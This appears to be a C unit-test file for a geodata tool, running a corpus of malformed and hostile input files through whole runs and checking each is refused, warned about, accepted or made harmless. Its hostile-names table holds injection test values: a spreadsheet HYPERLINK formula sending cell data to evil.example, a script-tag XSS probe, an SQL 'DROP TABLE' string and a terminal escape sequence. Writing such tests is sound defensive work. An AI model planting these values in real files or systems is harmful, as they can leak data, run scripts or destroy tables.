/* The corpus of bad input through whole runs: refused at its place, warned about, accepted with the
 * same bytes, or harmless in every output (RELIABILITY.md, gate 1). */
#include "tests/golden/run/program.h"
#include "tests/golden/whole/process.h"

#include <math.h>
#include <sys/stat.h>

#include "base/files.h"
#include "figures.h"
#include "outputs.h"

#define COUNT_OF(list) (sizeof(list) / sizeof *(list))

enum { WORDS_MAX = 5 };

/* What the message holds, in English. The place is `file:line:` where there is a line. */
typedef struct expectation {
    const char *file;
    const char *says[WORDS_MAX];
} expectation;

static const expectation expectations[] = {
    {"open/01_", {NULL}},
    {"open/03_", {"communes.csv:2", "ISO-8859-1", "warning", NULL}},
    {"open/05_", {"communes.csv:5:", "23008", "line 3", NULL}},
    {"open/07_", {"communes.csv:12:", "1004", "5 characters", "leading zero", NULL}},
    {"open/09_", {"communes.csv:1:", "missing column", "COM", "TYPECOM, REG, DEP", NULL}},
    {"open/11_", {"communes.csv", "empty file", NULL}},
    {"open/13_", {"communes.csv:6:", "expected 12 fields", "found 3", NULL}},
    {"open/15_", {"communes.csv:6:", "NUL byte", NULL}},
    {"open/17_", {"communes.csv:4:", "unclosed quote", NULL}},
    {"open/19_", {"flows.csv:3:", "negative", "-310.25", NULL}},
    {"open/21_", {"flows.csv:5:", "not a finite number", NULL}},
    {"open/23_", {"flows.csv:7:", "140,5", "decimal mark", NULL}},
    {"open/25_", {"flows.csv", "unknown residence commune", "23999", "list of rejects", NULL}},
    {"open/27_", {"flows.csv", "99999", NULL}},
    {"open/29_", {"flows.csv:18:", "duplicate pair 23096-87085", "3 and 18", NULL}},
    {"open/31_", {"flows.csv:2:", "longer than the limit", NULL}},
    {"open/33_", {"flows.csv:1:", "one column", "separator", NULL}},
    {"open/35_", {"flows.csv:8:", "61.125abc", "not a number", NULL}},
    {"open/37_", {NULL}},
    {"open/39_", {NULL}},
    {"open/41_", {NULL}},
    {"open/43_", {"venues.csv:2", "swapped", NULL}},
    {"open/45_", {"venues.csv:5", "0, 0 is refused as a position", NULL}},
    {"open/47_", {"venues.csv:6:", "unknown function", "z", "a-h", NULL}},
    {"open/49_", {"venues.csv:2", "the value is reported as changed", NULL}},
    {"open/51_", {"grid.csv:3:", "bad cell id", NULL}},
    {"open/53_", {"contours.geojson", "23096", NULL}},
    {"open/55_", {"contours.geojson:1:", "not finite", NULL}},
    {"open/57_", {"contours.geojson", "nested levels", NULL}},
    {"open/59_", {"venues.gpkg", "malformed", "nothing of it is kept", NULL}},
    {"open/61_", {"venues.csv:1:", "missing column", NULL}},
    {"open/63_", {"roads.osm.pbf", "byte 0", "limit 65536", NULL}},
    {"open/65_", {"flows.zip", "ratio", NULL}},
    {"open/67_", {"run.yaml:12:", "wite-zone", "did you mean 'white-zone'", NULL}},
    {"open/69_",
     {"run.yaml:15:", "a plugin is an id or a file inside a folder of the search path", NULL}},
    {"open/71_", {"run.yaml:16:", "threads out of range 1..", NULL}},
    {"open/73_", {"run.yaml:5:", "only local regular files", NULL}},
};

/* The name that a file spoils, as the outputs hold it: whole; without its control characters in the
 * last one. */
typedef struct hostile_name {
    const char *file, *id, *name;
} hostile_name;
static const hostile_name hostile_names[] = {
    {"open/37_", "venues:v001", "=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")"},
    {"open/39_", "venues:v002", "<script>alert(1)</script>"},
    {"open/41_", "venues:v003", "Robert'); DROP TABLE venues;--"},
    {"open/49_", "venues:v001", "Cafgnp.exe[31m"},
};

typedef struct role_file {
    const char *role, *file, *run;
} role_file;
static const role_file roles[] = {
    {"communes", "communes.csv", "run.yaml"}, {"contours", "contours.geojson", "run.yaml"},
    {"flows", "flows.csv", "run.yaml"},       {"venues", "venues.csv", "run.yaml"},
    {"grid", "grid.csv", "run-grid.yaml"},    {"roads", "roads.osm.pbf", "run-roads.yaml"},
    {"run", "run.yaml", "run.yaml"},
};

/* The valid base set, run once: what others are compared with. */
typedef struct corpus {
    char nasty[256], folder[64], results[256];
    size_t html_scripts, formulas, links;
    long peak_kib;
} corpus;

static void copy_base(const corpus *c, const char *folder)
{
    static const char *const files[] = {"communes.csv", "contours.geojson", "flows.csv",
                                        "grid.csv",     "population.csv",   "venues.csv",
                                        "run.yaml",     "run-grid.yaml",    "run-roads.yaml"};
    for (size_t i = 0; i < COUNT_OF(files); i++) {
        char from[512], to[256];
        (void)snprintf(from, sizeof from, "%s/base/%s", c->nasty, files[i]);
        file_copy(from, in_folder(to, folder, files[i]));
    }
}

/* Machine tables too, which the base run file does not ask for. */
static void ask_for_tables(const char *run_file)
{
    copy_with(run_file, run_file, "formats: [gpkg, xlsx, html]",
              "formats: [gpkg, xlsx, html, csv]");
}

static ending run_it(const char *command, const char *run_file, const char *results, char *text,
                     size_t size)
{
    const bool run = strcmp(command, "run") == 0;
    const char *const arguments[] = {command,           run_file, "--lang", "en",
                                     run ? "-o" : NULL, results,  NULL};
    return process_run(arguments, text, size);
}

static int open_corpus(void **state)
{
    static corpus c;
    static char text[1 << 16];
    char path[256];
    *state = NULL;
    if (!shared_file(c.nasty, "nasty"))
        return 0;
    folder_new(c.folder);
    copy_base(&c, c.folder);
    ask_for_tables(in_folder(path, c.folder, "run.yaml"));
    const ending e = run_it("run", path, in_folder(c.results, c.folder, "out"), text, sizeof text);
    if (e.code != 0)
        print_error("the base set: exit %d\n%s\n", e.code, text);
    c.peak_kib = e.peak_kib;
    c.html_scripts =
        e.code == 0 ? count_in_file(in_folder(path, c.results, "report.html"), "<script") : 0;
    c.links = e.code == 0 ? count_in_archive(in_folder(path, c.results, "workbook.xlsx"),
                                             "xl/worksheets/", "<hyperlink ")
                          : 0;
    c.formulas = e.code == 0 ? count_in_archive(in_folder(path, c.results, "workbook.xlsx"),
                                                "xl/worksheets/", "<f>")
                             : 0;
    *state = &c;
    return e.code;
}

static int close_corpus(void **state)
{
    const corpus *c = *state;
    if (c != NULL)
        folder_drop(c->folder);
    return 0;
}

/* One line of the index, its folder ready to run. */
typedef struct bad_case {
    const corpus *of;
    const char *file, *class;
    const role_file *role;
    char folder[64], run_file[256], results[256];
    char said[1 << 18];
    ending end;
} bad_case;

static void prepare_case(bad_case *b)
{
    char from[512], to[256], renamed[64];
    const char *extension = strchr(strrchr(b->file, '/'), '.');
    folder_new(b->folder);
    copy_base(b->of, b->folder);
    (void)in_folder(b->run_file, b->folder, b->role->run);
    (void)in_folder(b->results, b->folder, "out");
    (void)snprintf(renamed, sizeof renamed, "%.*s%s", (int)strcspn(b->role->file, "."),
                   b->role->file, extension);
    (void)snprintf(from, sizeof from, "%s/%s", b->of->nasty, b->file);
    file_copy(from, in_folder(to, b->folder, renamed));
    if (strcmp(renamed, b->role->file) != 0)
        copy_with(b->run_file, b->run_file, b->role->file, renamed);
    ask_for_tables(b->run_file);
}

static bool wrong(const bad_case *b, const char *what)
{
    print_error("%s (%s): %s; exit %d\n%.4000s\n", b->file, b->class, what, b->end.code, b->said);
    return false;
}

static const expectation *expectation_of(const char *file)
{
    for (size_t i = 0; i < COUNT_OF(expectations); i++)
        if (strncmp(expectations[i].file, file, strlen(expectations[i].file)) == 0)
            return &expectations[i];
    return NULL;
}

static bool says_what_it_must(const bad_case *b)
{
    const expectation *e = expectation_of(b->file);
    if (e == NULL)
        return wrong(b, "no expectation for this file");
    for (size_t i = 0; i < WORDS_MAX && e->says[i] != NULL; i++)
        if (strstr(b->said, e->says[i]) == NULL) {
            print_error("not said: \"%s\"\n", e->says[i]);
            return wrong(b, "the message lacks something");
        }
    return true;
}

static bool nothing_is_left(const bad_case *b)
{
    struct stat facts;
    return lstat(b->results, &facts) != 0 ? true : wrong(b, "a refused run left a results folder");
}

/* --- classes --- */

static bool is_rejected(bad_case *b)
{
    b->end = run_it("check", b->run_file, NULL, b->said, sizeof b->said);
    if (b->end.code != 1 || !says_what_it_must(b))
        return wrong(b, "check does not refuse it");
    b->end = run_it("run", b->run_file, b->results, b->said, sizeof b->said);
    if (b->end.code != 1)
        return wrong(b, "not refused");
    /* a table of the base set holds some kB: whatever the input, the memory stays near that of the
     * base run */
    if (b->end.peak_kib > b->of->peak_kib + (64 << 10))
        return wrong(b, "the memory grew by more than 64 MiB");
    return says_what_it_must(b) && nothing_is_left(b);
}

static bool is_warned(bad_case *b)
{
    b->end = run_it("run", b->run_file, b->results, b->said, sizeof b->said);
    if (b->end.code != 0)
        return wrong(b, "refused");
    return says_what_it_must(b);
}

/* The manifest alone tells the byte-order mark and the line ends. */
static bool same_outputs(const bad_case *b)
{
    static const char *const files[] = {
        "workbook.xlsx",     "report.html",           "results.gpkg",
        "tables/places.csv", "tables/venues.csv",     "tables/territories.csv",
        "tables/totals.csv", "tables/flows.csv",      "tables/balance.csv",
        "tables/gaps.csv",   "tables/catchments.csv", "tables/warnings.csv"};
    for (size_t i = 0; i < COUNT_OF(files); i++) {
        char x[256], y[256];
        if (!same_file(in_folder(x, b->of->results, files[i]), in_folder(y, b->results, files[i])))
            return wrong(b, "other results");
    }
    return true;
}

static bool is_accepted(bad_case *b)
{
    b->end = run_it("run", b->run_file, b->results, b->said, sizeof b->said);
    return b->end.code == 0 ? same_outputs(b) : wrong(b, "refused");
}

static const hostile_name *hostile_of(const char *file)
{
    for (size_t i = 0; i < COUNT_OF(hostile_names); i++)
        if (strncmp(hostile_names[i].file, file, strlen(hostile_names[i].file)) == 0)
            return &hostile_names[i];
    return NULL;
}

static bool tables_keep_the_text(const bad_case *b, const hostile_name *h)
{
    char path[256];
    bool kept = false;
    table *t = read_texts(in_folder(path, b->results, "tables/venues.csv"));
    for (size_t row = 0; row < t->rows; row++)
        if (strcmp(text_in(t, row, "id"), h->id) == 0) {
            kept = strcmp(text_in(t, row, "name"), h->name) == 0;
            if (!kept)
                print_error("the name became \"%s\"\n", text_in(t, row, "name"));
        }
    table_free(t);
    return kept;
}

static bool is_harmless(bad_case *b)
{
    const hostile_name *h = hostile_of(b->file);
    char path[256];
    size_t named = 0;
    b->end = run_it("run", b->run_file, b->results, b->said, sizeof b->said);
    if (b->end.code != 0 || h == NULL)
        return wrong(b, "refused");
    if (has_control(b->said))
        return wrong(b, "the terminal would obey it");
    if (count_in_file(in_folder(path, b->results, "report.html"), "<script") != b->of->html_scripts)
        return wrong(b, "a script element came from the data");
    if (count_in_file(path, "\x1b") + count_in_file(path, "\xe2\x80\xae") != 0)
        return wrong(b, "the page holds a control character");
    (void)in_folder(path, b->results, "workbook.xlsx");
    if (count_in_archive(path, "xl/worksheets/", "<f>") != b->of->formulas ||
        count_in_archive(path, "xl/worksheets/", "<hyperlink ") != b->of->links)
        return wrong(b, "a formula or a link came from the data");
    (void)in_folder(path, b->results, "excel/venues.csv");
    if (count_in_file(path, ";=") + count_in_file(path, ";\"=") > 0)
        return wrong(b, "a spreadsheet would compute it");
    if (gpkg_venues(in_folder(path, b->results, "results.gpkg"), h->name, &named) != 6 ||
        named != 1)
        return wrong(b, "the GeoPackage has lost the text");
    return tables_keep_the_text(b, h) ? says_what_it_must(b)
                                      : wrong(b, "the machine table has lost the text");
}

static bool is_limited(bad_case *b)
{
    b->end = run_it("run", b->run_file, b->results, b->said, sizeof b->said);
    if (b->end.code != 1)
        return wrong(b, "not refused");
    if (b->end.peak_kib > b->of->peak_kib + (128 << 10))
        return wrong(b, "the memory grew by more than 128 MiB");
    return says_what_it_must(b) && nothing_is_left(b);
}

static bool is_as_told(bad_case *b)
{
    static const struct {
        const char *class;
        bool (*holds)(bad_case *);
    } classes[] = {{"REJECT", is_rejected},
                   {"WARN", is_warned},
                   {"ACCEPT", is_accepted},
                   {"ESCAPE", is_harmless},
                   {"LIMIT", is_limited}};
    for (size_t i = 0; i < COUNT_OF(classes); i++)
        if (strcmp(b->class, classes[i].class) == 0)
            return classes[i].holds(b) &&
                   (strstr(b->said, "Sanitizer") == NULL || wrong(b, "memory error"));
    return wrong(b, "unknown class");
}

static const role_file *role_of(const char *role)
{
    for (size_t i = 0; i < COUNT_OF(roles); i++)
        if (strcmp(roles[i].role, role) == 0)
            return &roles[i];
    return NULL;
}

static void every_file_is_treated_as_its_index_says(void **state)
{
    static bad_case b;
    const corpus *c = *state;
    char path[512];
    size_t failed = 0;
    if (c == NULL) {
        print_message("skipped: no shared data\n");
        skip();
    }
    (void)snprintf(path, sizeof path, "%s/open/index.tsv", c->nasty);
    table *index = read_texts(path);
    assert_int_equal(index->rows, COUNT_OF(expectations));
    for (size_t row = 0; row < index->rows; row++) {
        b = (bad_case){.of = c,
                       .file = text_in(index, row, "file"),
                       .class = text_in(index, row, "class"),
                       .role = role_of(text_in(index, row, "role"))};
        assert_non_null(b.role);
        prepare_case(&b);
        failed += !is_as_told(&b);
        folder_drop(b.folder);
    }
    table_free(index);
    assert_int_equal(failed, 0);
}

/* A row of the corpus that is not used is in the balance and in the list of rejects. */
static void rejected_rows_are_counted_and_listed(void **state)
{
    static bad_case b;
    const corpus *c = *state;
    char path[256];
    double rejected = 0.0;
    bool listed = false;
    if (c == NULL) {
        print_message("skipped: no shared data\n");
        skip();
    }
    b = (bad_case){.of = c,
                   .file = "open/25_flows_unknown_code.csv",
                   .class = "WARN",
                   .role = role_of("flows")};
    prepare_case(&b);
    assert_true(is_warned(&b));
    table *t = read_texts(in_folder(path, b.results, "tables/balance.csv"));
    for (size_t row = 0; row < t->rows; row++)
        rejected +=
            strcmp(text_in(t, row, "outcome"), "rejected") == 0 ? number_in(t, row, "rows") : 0.0;
    table_free(t);
    assert_true(fabs(rejected - 1.0) <= 0.0);
    t = read_texts(in_folder(path, b.results, "tables/rejects.csv"));
    for (size_t row = 0; row < t->rows; row++)
        listed = listed || (strcmp(text_in(t, row, "file"), "flows.csv") == 0 &&
                            strcmp(text_in(t, row, "line"), "4") == 0 &&
                            strcmp(text_in(t, row, "value"), "23999") == 0);
    table_free(t);
    assert_true(listed);
    folder_drop(b.folder);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_file_is_treated_as_its_index_says),
        cmocka_unit_test(rejected_rows_are_counted_and_listed),
    };
    return cmocka_run_group_tests(tests, open_corpus, close_corpus);
}
